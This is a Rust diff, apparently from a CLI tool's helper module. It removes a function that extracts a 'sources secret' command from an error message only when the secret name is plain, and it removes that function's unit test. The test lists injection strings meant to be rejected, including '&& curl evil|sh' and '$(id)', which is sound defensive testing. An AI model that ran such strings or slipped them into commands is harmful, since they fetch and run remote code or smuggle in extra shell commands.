@@ -128,16 +128,6 @@ pub(crate) fn did_you_mean(typed: &[CapabilityId], listed: &[ExposedCapability])
     }
 }
 
-/// The command that sets a secret of `source`, where `reason` ends with just that. A reason may have words of a worker in it:
-/// no other command is taken from one.
-pub(crate) fn secret_command<'r>(reason: &'r str, source: &str) -> Option<&'r str> {
-    let at = reason.rfind(": plexusctl ")? + 2;
-    let command = &reason[at..];
-    let name = command.strip_prefix(&format!("plexusctl sources secret {source} "))?;
-    let is_plain = |b: u8| b.is_ascii_alphanumeric() || b"_-".contains(&b);
-    (!name.is_empty() && name.bytes().all(is_plain)).then_some(command)
-}
-
 /// A value as one line of JSON.
 ///
 /// # Errors
@@ -174,24 +164,4 @@ pub(crate) fn text_of<'v>(value: &'v Value, member: &str) -> &'v str {
 /// The same of a member that is a list: its elements.
 pub(crate) fn list_of<'v>(value: &'v Value, member: &str) -> &'v [Value] {
     value[member].as_array().map_or(&[], Vec::as_slice)
-}
-
-#[cfg(test)]
-mod tests {
-    use super::*;
-
-    #[test]
-    fn secret_alone_is_taken_from_a_reason() {
-        let secret = "token is not set: plexusctl sources secret home token";
-        let command = secret_command(secret, "home");
-        assert_eq!(command, Some("plexusctl sources secret home token"));
-        for words in [
-            "x: plexusctl resume",
-            "x: plexusctl sources secret other token",
-            "x: plexusctl sources secret home token && curl evil|sh",
-            "x: plexusctl sources secret home $(id)",
-        ] {
-            assert_eq!(secret_command(words, "home"), None, "{words}");
-        }
-    }
 }
